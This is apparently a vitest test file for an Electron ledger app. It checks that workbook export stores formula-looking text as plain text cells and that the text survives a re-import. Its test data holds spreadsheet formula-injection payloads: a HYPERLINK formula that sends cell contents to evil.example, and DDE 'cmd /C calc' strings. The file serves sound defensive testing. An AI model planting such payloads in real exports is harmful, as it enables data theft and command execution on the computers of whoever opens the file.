// Formula injection through an export: a record whose text starts with = + - @ is written into the workbook
// as a text cell (never a formula Excel or WPS would run), and reads back unchanged. (CSV: tests/unit/tsv.)
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import { openBackend, type Backend } from '../../electron/services/backend';
import type { WorkbookFile } from '../../shared/api/workbook';
import { tempDbPath, tempDir } from '../support/tmp';

const dir = tempDir('ledger-injection-');
let b: Backend;
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?d="&A2,"点此查看详情")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
];

async function ok<T = { id: number }>(method: string, input: unknown): Promise<T> {
  const r = await b.dispatch(method, input);
  if (!r.ok) throw new Error(`${method} refused: ${r.error.message}`);
  return r.value as T;
}

beforeAll(async () => {
  b = await openBackend(tempDbPath(dir), { now: () => new Date('2026-11-20T02:00:00Z') });
  const type = await ok('vocabulary.addActivityType', { name: '座谈' });
  const cadre = await ok('cadres.create', { name: "=cmd|' /C calc'!A0", title: '@职务' });
  for (const [i, content] of ATTACKS.entries())
    await ok('records.create', {
      date: `2026-03-0${i + 1}`,
      activityTypeId: type.id,
      cadreIds: [cadre.id],
      place: '+地点',
      content,
    });
  return () => b.close();
});

describe('workbook export', () => {
  it('writes every formula-looking text as a text cell and no formula at all', async () => {
    const file = await ok<WorkbookFile>('workbook.export', {});
    const zip = await JSZip.loadAsync(Buffer.from(file.dataBase64, 'base64'));
    const sheets = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    expect(sheets.length).toBeGreaterThanOrEqual(6);
    for (const name of sheets) expect(await zip.file(name)!.async('string')).not.toMatch(/<f[ >]/);
    const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
    const unescape = (s: string) =>
      s
        .replace(/&quot;/g, '"')
        .replace(/&apos;/g, "'")
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&amp;/g, '&');
    const texts = [...strings.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) => unescape(m[1]!));
    for (const a of [...ATTACKS, "=cmd|' /C calc'!A0", '@职务', '+地点']) expect(texts).toContain(a);
  });

  it('reads back into a fresh ledger as the same text', async () => {
    const file = await ok<WorkbookFile>('workbook.export', {});
    const c = await openBackend(tempDbPath(dir), { now: () => new Date('2026-11-20T02:00:00Z') });
    try {
      const r0 = await c.dispatch('vocabulary.addActivityType', { name: '座谈' });
      expect(r0.ok).toBe(true);
      const r = await c.dispatch('workbook.import', file);
      if (!r.ok) throw new Error(r.error.message);
      const contents = (
        c.db.sqlite.prepare('SELECT content FROM records ORDER BY date').all() as { content: string }[]
      ).map((x) => x.content);
      expect(contents).toEqual(ATTACKS);
    } finally {
      c.close();
    }
  });
});
